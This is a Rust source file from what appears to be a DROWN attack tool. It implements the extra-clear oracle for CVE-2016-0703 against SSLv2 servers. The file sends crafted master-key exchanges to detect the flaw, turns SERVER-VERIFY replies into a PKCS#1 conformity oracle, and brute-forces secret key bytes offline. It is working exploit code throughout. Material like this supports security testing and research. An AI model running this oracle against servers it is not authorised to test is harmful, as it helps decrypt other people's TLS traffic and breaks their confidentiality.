// Extra-clear DROWN oracle (CVE-2016-0703)
//
// An affected SSLv2 server accepts a clear key longer than the cipher's
// clear-key length, so the attacker chooses almost the whole master key.
// Overwriting all of it with zeros turns SERVER-VERIFY into a PKCS#1
// conformity oracle; leaving room for a few secret bytes lets them be
// brute-forced offline.

use super::capability::{ExchangeOutcome, MasterKeyRequest, Pkcs1Oracle, SessionProbe};
use super::rsa::RsaPublicContext;
use super::server_verify::ServerVerifyChecker;
use super::DrownVulnerabilityType;
use crate::constants::ORACLE_QUERY_LOG_INTERVAL;
use crate::error::{AttackStep, DrownError};
use crate::ssl2::Ssl2CipherSuite;
use crate::Result;
use rand::Rng;
use std::sync::atomic::{AtomicU64, Ordering};
use tracing::{debug, info, warn};

pub struct ExtraClearOracle<P: SessionProbe> {
    probe: P,
    cipher_suite: Ssl2CipherSuite,
    key_byte_retries: u32,
    queries: AtomicU64,
}

impl<P: SessionProbe> ExtraClearOracle<P> {
    pub fn new(probe: P, cipher_suite: Ssl2CipherSuite, key_byte_retries: u32) -> Self {
        Self {
            probe,
            cipher_suite,
            key_byte_retries: key_byte_retries.max(1),
            queries: AtomicU64::new(0),
        }
    }

    /// Conformity queries issued so far
    pub fn queries(&self) -> u64 {
        self.queries.load(Ordering::Relaxed)
    }

    pub fn probe(&self) -> &P {
        &self.probe
    }

    /// Check whether the server is affected by the extra-clear bug.
    ///
    /// Sends a correctly encrypted secret key but overwrites all except one
    /// of its bytes with clear zero bytes. Only an affected server then
    /// encrypts SERVER-VERIFY under a key we can predict.
    pub fn check_for_extra_clear_oracle(
        &self,
        rsa: &RsaPublicContext,
    ) -> Result<DrownVulnerabilityType> {
        let suite = self.cipher_suite;
        let mut secret_key = vec![0u8; suite.secret_key_len()];
        let mut rng = rand::thread_rng();
        rng.fill(&mut secret_key[..]);
        let encrypted_key = rsa.encrypt_pkcs1(&secret_key, &mut rng)?;

        let request = MasterKeyRequest {
            cipher_suite: suite,
            clear_key: vec![0u8; suite.master_key_len() - 1],
            encrypted_key,
            secret_key_plain: secret_key.clone(),
        };

        match self.probe.exchange_master_key(&request)? {
            ExchangeOutcome::NoServerHello => Ok(DrownVulnerabilityType::None),
            ExchangeOutcome::NoServerVerify => Ok(DrownVulnerabilityType::Ssl2),
            ExchangeOutcome::ServerVerify(capture) => {
                if ServerVerifyChecker::check(&capture, &secret_key, true) {
                    Ok(DrownVulnerabilityType::Special)
                } else {
                    Ok(DrownVulnerabilityType::Ssl2)
                }
            }
        }
    }
}

impl<P: SessionProbe> Pkcs1Oracle for ExtraClearOracle<P> {
    fn check_pkcs_conformity(&self, ciphertext: &[u8]) -> Result<bool> {
        // Overwrite the full key with clear null bytes
        let request = MasterKeyRequest::with_zero_clear_key(
            self.cipher_suite,
            self.cipher_suite.master_key_len(),
            ciphertext,
        );
        let outcome = self.probe.exchange_master_key(&request)?;

        let queries = self.queries.fetch_add(1, Ordering::Relaxed) + 1;
        if queries % ORACLE_QUERY_LOG_INTERVAL == 0 {
            info!("Number of queries so far: {}", queries);
        }

        Ok(match outcome {
            ExchangeOutcome::ServerVerify(capture) => ServerVerifyChecker::check(&capture, &[], true),
            ExchangeOutcome::NoServerHello | ExchangeOutcome::NoServerVerify => false,
        })
    }

    fn brute_force_key_byte(&self, ciphertext: &[u8], known_prefix: &[u8]) -> Result<u8> {
        let secret_len = self.cipher_suite.secret_key_len();
        let pos = known_prefix.len();
        if pos >= secret_len {
            return Err(DrownError::InvalidInput {
                message: format!(
                    "Known prefix of {} bytes leaves nothing to brute-force in a {}-byte secret key",
                    pos, secret_len
                ),
            });
        }

        let request = MasterKeyRequest::with_zero_clear_key(
            self.cipher_suite,
            self.cipher_suite.master_key_len() - pos - 1,
            ciphertext,
        );

        // Some connections rarely end without a usable SERVER-VERIFY
        let mut capture = None;
        for attempt in 1..=self.key_byte_retries {
            match self.probe.exchange_master_key(&request)? {
                ExchangeOutcome::ServerVerify(received) => {
                    capture = Some(received);
                    break;
                }
                _ => warn!(
                    "Invalid Server-Verify message when brute-forcing a key byte (attempt {})",
                    attempt
                ),
            }
        }
        let capture = capture.ok_or_else(|| {
            DrownError::attack_failed(
                AttackStep::Recovery,
                "Too many invalid Server-Verify messages when brute-forcing a key byte",
            )
        })?;

        let mut candidate = vec![0u8; secret_len];
        candidate[..pos].copy_from_slice(known_prefix);
        for byte in 0..=u8::MAX {
            candidate[pos] = byte;
            if ServerVerifyChecker::check(&capture, &candidate, true) {
                debug!("Key byte {} is {:#04x}", pos, byte);
                return Ok(byte);
            }
        }

        Err(DrownError::attack_failed(
            AttackStep::Recovery,
            "Could not find key byte through brute-force",
        ))
    }
}
